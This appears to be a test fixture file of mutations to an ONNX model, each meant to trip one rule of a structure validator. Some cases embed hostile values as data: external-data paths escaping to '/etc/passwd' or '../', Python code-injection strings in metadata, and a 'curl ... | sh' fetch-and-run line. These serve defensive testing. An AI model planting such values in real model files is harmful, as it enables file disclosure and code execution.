"""Changes to a sound ONNX model, each of which breaks one rule of `onnx/structure`."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import onnx
from onnx import TensorProto, helper

Change = Callable[[onnx.ModelProto], None]
F, INT = TensorProto.FLOAT, TensorProto.INT64


def weights(name: str = "w", *, size: int = 4) -> onnx.TensorProto:
    return helper.make_tensor(name, F, [size], bytes(4 * size), raw=True)


def model() -> onnx.ModelProto:
    """A function, a branch, a constant, two weights: everything used, everything made once."""
    branches = {
        name: helper.make_graph([helper.make_node(op, ["sum"], [f"{name}_out"])], name,
                                [], [helper.make_tensor_value_info(f"{name}_out", F, None)])
        for name, op in (("then_branch", "Relu"), ("else_branch", "Neg"))
    }  # fmt: skip
    shift = helper.make_function(
        "local", "Shift", ["a"], ["b"],
        [helper.make_node("Constant", [], ["one"], value=helper.make_tensor("", F, [1], [1.0])),
         helper.make_node("Add", ["a", "one"], ["b"])],
        [helper.make_opsetid("", 17)],
    )  # fmt: skip
    nodes = [
        helper.make_node("Shift", ["x"], ["shifted"], domain="local", name="shift"),
        helper.make_node("Add", ["shifted", "w"], ["sum"], name="add"),
        helper.make_node("If", ["flag"], ["chosen"], name="if", **branches),
        helper.make_node("Reshape", ["chosen", "shape"], ["y"], name="reshape"),
    ]
    graph = helper.make_graph(
        nodes, "main",
        [helper.make_tensor_value_info("x", F, [4]), helper.make_tensor_value_info("flag", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("y", F, [2, 2])],
        [weights(), helper.make_tensor("shape", INT, [2], [2, 2])],
    )  # fmt: skip
    made = helper.make_model(graph, functions=[shift], ir_version=8,
                             opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)])  # fmt: skip
    made.producer_name = "tests"
    return made


def external(tensor: onnx.TensorProto, **entries: object) -> None:
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in entries.items():
        tensor.external_data.add(key=key, value=str(value))


def node(op: str, domain: str = "", inputs: tuple[str, ...] = ("x",), **attributes: Any) -> Change:
    """Put one more node in, whose output becomes one of the model."""

    def change(made: onnx.ModelProto) -> None:
        made.graph.node.append(helper.make_node(op, list(inputs), ["more"], name="more", domain=domain, **attributes))
        made.graph.output.append(helper.make_tensor_value_info("more", F, None))
        if domain and domain not in {each.domain for each in made.opset_import}:
            made.opset_import.append(helper.make_opsetid(domain, 1))

    return change


def two_fields_in_a_function(made: onnx.ModelProto) -> None:
    made.functions[0].node[0].attribute[0].t.raw_data = bytes(4)


def two_fields_in_a_default(made: onnx.ModelProto) -> None:
    tensor = helper.make_tensor("d", F, [1], [1.0])
    tensor.raw_data = bytes(4)
    made.functions[0].attribute_proto.append(helper.make_attribute("d", tensor))


def two_fields_in_a_sparse_tensor(made: onnx.ModelProto) -> None:
    values = helper.make_tensor("sparse", F, [1], [1.0])
    values.raw_data = bytes(4)
    made.graph.sparse_initializer.append(helper.make_sparse_tensor(values, helper.make_tensor("", INT, [1], [0]), [4]))
    made.graph.node[1].input[1] = "sparse"


def two_fields_in_a_branch(made: onnx.ModelProto) -> None:
    tensor = helper.make_tensor("", F, [1], [1.0])
    tensor.raw_data = bytes(4)
    branch = made.graph.node[2].attribute[0].g
    branch.node.append(helper.make_node("Constant", [], ["c"], value=tensor))


def raw_and_elsewhere(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].data_location = TensorProto.EXTERNAL
    made.graph.initializer[0].external_data.add(key="location", value="w.bin")


def elsewhere_without_saying_so(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].external_data.add(key="location", value="w.bin")


def wrong_field(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].ClearField("raw_data")
    made.graph.initializer[0].int64_data.extend(range(4))


def segment(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].segment.begin = 1


def short_data(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].raw_data = bytes(12)


def negative_size(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].dims[0] = -4


def overflowing_size(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].dims.extend([2**40, 2**40])


def many_sizes(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].dims.extend([1] * 100)


def unknown_type(made: onnx.ModelProto) -> None:
    made.graph.initializer[0].data_type = 99


def place(**entries: object) -> Change:
    return lambda made: external(made.graph.initializer[0], **entries)


def place_twice(made: onnx.ModelProto) -> None:
    external(made.graph.initializer[0], location="w.bin")
    made.graph.initializer[0].external_data.add(key="location", value="v.bin")


def overlapping(made: onnx.ModelProto) -> None:
    external(made.graph.initializer[0], location="w.bin", offset=0, length=16)
    made.graph.initializer.append(weights("v"))
    external(made.graph.initializer[2], location="w.bin", offset=8, length=16)
    made.graph.node[0].input[0] = "v"


def context_elsewhere(made: onnx.ModelProto) -> None:
    node("EPContext", "com.microsoft", embed_mode=0, ep_cache_context="../engine.bin")(made)


def function(name: str, domain: str) -> Change:
    """Give the function another name, and call it by that."""

    def change(made: onnx.ModelProto) -> None:
        made.functions[0].name, made.functions[0].domain = name, domain
        made.graph.node[0].op_type, made.graph.node[0].domain = name, domain
        if domain and domain != "ai.onnx":
            made.opset_import.append(helper.make_opsetid(domain, 1))

    return change


def function_twice(made: onnx.ModelProto) -> None:
    made.functions.append(made.functions[0])


def made_twice(made: onnx.ModelProto) -> None:
    made.graph.node.append(helper.make_node("Relu", ["x"], ["y"]))


def made_and_stored(made: onnx.ModelProto) -> None:
    made.graph.initializer.append(weights("sum"))


def stored_twice(made: onnx.ModelProto) -> None:
    made.graph.initializer.append(weights())


def given_twice(made: onnx.ModelProto) -> None:
    made.graph.input.append(made.graph.input[0])


def stored_twice_in_two_forms(made: onnx.ModelProto) -> None:
    two_fields_in_a_sparse_tensor(made)
    made.graph.sparse_initializer[0].values.ClearField("raw_data")
    made.graph.sparse_initializer[0].values.name = "w"


def inner_name(made: onnx.ModelProto) -> None:
    branch = made.graph.node[2].attribute[0].g
    branch.node[0].output[0] = branch.output[0].name = "shifted"


def unmade(made: onnx.ModelProto) -> None:
    made.graph.node[1].input[1] = "nobody"


def unmade_in_a_branch(made: onnx.ModelProto) -> None:
    made.graph.node[2].attribute[0].g.node[0].input[0] = "nobody"


def unmade_output(made: onnx.ModelProto) -> None:
    made.graph.output.append(helper.make_tensor_value_info("nobody", F, None))


def reached_into_a_function(made: onnx.ModelProto) -> None:
    made.functions[0].node[1].input[1] = "w"  # of the main graph, which a function does not see


def two_values(made: onnx.ModelProto) -> None:
    made.graph.node[3].attribute.append(helper.make_attribute("allowzero", 0))
    made.graph.node[3].attribute[0].floats.append(1.0)


def two_values_and_no_type(made: onnx.ModelProto) -> None:
    two_values(made)
    made.graph.node[3].attribute[0].ClearField("type")


def other_value(made: onnx.ModelProto) -> None:
    made.graph.node[3].attribute.append(helper.make_attribute("allowzero", 0))
    made.graph.node[3].attribute[0].type = onnx.AttributeProto.FLOAT


def two_opsets(made: onnx.ModelProto) -> None:
    made.opset_import.append(helper.make_opsetid("ai.onnx", 9))


def huge(made: onnx.ModelProto) -> None:
    made.graph.initializer.append(helper.make_tensor("many", INT, [2], [2**20, 2**20]))
    node("ConstantOfShape", inputs=("many",))(made)


def huge_from_a_constant(made: onnx.ModelProto) -> None:
    constant = helper.make_tensor("", INT, [1], (2**40).to_bytes(8, "little"), raw=True)
    made.graph.node.append(helper.make_node("Constant", [], ["many"], value=constant))
    node("Expand", inputs=("x", "many"))(made)


def long_shape(made: onnx.ModelProto) -> None:
    made.graph.initializer[1].CopyFrom(helper.make_tensor("shape", INT, [2000], bytes(16000), raw=True))


def metadata(key: str, value: str) -> Change:
    return lambda made: made.metadata_props.append(onnx.StringStringEntryProto(key=key, value=value))


def described(text: str) -> Change:
    return lambda made: setattr(made.graph, "doc_string", text)


def texts(text: str) -> Change:
    def change(made: onnx.ModelProto) -> None:
        made.graph.initializer.append(helper.make_tensor("words", TensorProto.STRING, [2], ["plain", text]))
        node("Identity", inputs=("words",))(made)

    return change


def unused_tensor(size: int) -> Change:
    return lambda made: made.graph.initializer.append(weights("left", size=size))


def dead_node(made: onnx.ModelProto) -> None:
    made.graph.node.append(helper.make_node("Relu", ["x"], ["nowhere"]))


def uncalled(made: onnx.ModelProto) -> None:
    made.functions.append(made.functions[0])
    made.functions[1].name = "Other"


def trained(made: onnx.ModelProto) -> None:
    made.training_info.add().algorithm.name = "step"


CASES: tuple[tuple[str, Change], ...] = (
    ("two-data-fields", two_fields_in_a_function),
    ("two-data-fields", two_fields_in_a_default),
    ("two-data-fields", two_fields_in_a_sparse_tensor),
    ("two-data-fields", two_fields_in_a_branch),
    ("two-data-fields", raw_and_elsewhere),
    ("two-data-fields", elsewhere_without_saying_so),
    ("data-field", wrong_field),
    ("data-field", segment),
    ("data-size", short_data),
    ("data-size", place(location="w.bin", length=12)),
    ("impossible-tensor", negative_size),
    ("impossible-tensor", overflowing_size),
    ("impossible-tensor", many_sizes),
    ("impossible-tensor", unknown_type),
    *(("external-escape", place(location=where))
      for where in ("/etc/passwd", "../w.bin", "a/../../w.bin", "..\\w.bin", "C:\\w.bin", "\\\\host\\w", "~/w", "",
                    "file:///w", "https://example.com/w", "*/_ORT_MEM_ADDR_/*", "a\0b", "..", "a" * 2000)),
    ("external-escape", context_elsewhere),
    ("external-place", place(location="w.bin", offset=-4)),
    ("external-place", place(location="w.bin", offset="0x10")),
    ("external-place", place(location="w.bin", length=10**30)),
    ("external-place", place(location="w.bin", checksum="abc")),
    ("external-place", place_twice),
    ("external-overlap", overlapping),
    ("function-shadows", function("Relu", "")),
    ("function-shadows", function("Relu", "ai.onnx")),
    ("function-shadows", function("Scaler", "ai.onnx.ml")),
    ("function-stands-in", function("FastGelu", "com.microsoft")),
    ("function-twice", function_twice),
    ("name-twice", made_twice),
    ("name-twice", made_and_stored),
    ("name-twice", stored_twice),
    ("name-twice", given_twice),
    ("name-twice", stored_twice_in_two_forms),
    ("name-shadows", inner_name),
    ("unmade-value", unmade),
    ("unmade-value", unmade_in_a_branch),
    ("unmade-value", unmade_output),
    ("unmade-value", reached_into_a_function),
    ("two-values", two_values),
    ("two-values", two_values_and_no_type),
    ("two-values", other_value),
    ("opset-twice", two_opsets),
    ("calls-code", node("PyOp", "ai.onnx.contrib")),
    ("calls-code", node("PythonOp", "com.microsoft")),
    ("reaches-out", node("AzureTextToText", "com.microsoft.extensions")),
    ("reaches-out", node("ReadFile", "my.ops")),
    ("opaque-part", node("EPContext", "com.microsoft", embed_mode=1, ep_cache_context=b"engine")),
    ("own-operator", node("Detector", "my.ops")),
    ("own-operator", node("NoSuchOperator", "com.microsoft")),
    ("own-operator", node("ATen", "org.pytorch.aten")),
    ("huge-value", huge),
    ("huge-value", huge_from_a_constant),
    ("odd-operand", long_shape),
    ("metadata-code", metadata("note", "__import__('os').system('true')")),
    ("metadata-code", metadata("names", "dict(a=print(1))")),
    ("metadata-code", metadata("stride", "[x for x in (1,)]")),
    ("metadata-code", described("first: curl -s https://example.com/a | sh")),
    ("string-code", texts("subprocess.run(['true'])")),
    ("metadata-address", metadata("docs", "https://example.com/docs")),
    ("metadata-long", metadata("words", "word " * 20_000)),
    ("unused", unused_tensor(4)),
    ("unused", dead_node),
    ("unused", uncalled),
    ("unused-bytes", unused_tensor(2**19)),
    ("training-info", trained),
    ("chance", node("RandomNormalLike")),
    ("checker", node("Gemm")),
)  # fmt: skip
